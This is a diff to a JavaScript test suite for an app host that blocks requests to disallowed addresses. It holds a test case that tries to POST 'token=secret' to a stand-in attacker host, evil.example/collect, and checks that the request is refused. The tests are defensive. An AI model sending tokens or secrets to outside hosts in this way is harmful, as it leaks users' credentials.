@@ -209,6 +209,8 @@ describe('an address that is not allowed', () => {
         { id: 'b', title: 'Gift', url },
       ],
     });
+    // Of a list with one among them nothing: half a menu would hide that something is wrong.
+    expect(posted.map(({ command }) => command)).toEqual(['info', 'log', 'log', 'log', 'log']);
     expect(JSON.stringify(posted)).not.toContain('evil');
     expect(warnings(posted)).toHaveLength(4);
   });
@@ -222,12 +224,14 @@ describe('an address that is not allowed', () => {
     expect(warnings(posted)).toHaveLength(3);
   });
 
-  it('is not asked over the app’s connection', async () => {
+  it.each([
+    'https://evil.example/collect',
+    // A page of the brand may be opened, and is no API all the same.
+    'https://pay-global.zaxtrack.example/pay/collect',
+    '/pay/collect',
+  ])('is not asked over the app’s connection, which a token goes along: %s', async (url) => {
     const { host, posted } = openApp('https://api.zaxtrack.example');
-    const asked = host.ask('sendHttp', {
-      url: 'https://evil.example/collect',
-      options: { method: 'POST', body: 'token=secret' },
-    });
+    const asked = host.ask('sendHttp', { url, options: { method: 'POST', body: 'token=secret' } });
     await expect(asked).rejects.toMatchObject({ reason: 'notAllowed' });
     expect(posted.map(({ command }) => command)).not.toContain('sendHttp');
   });
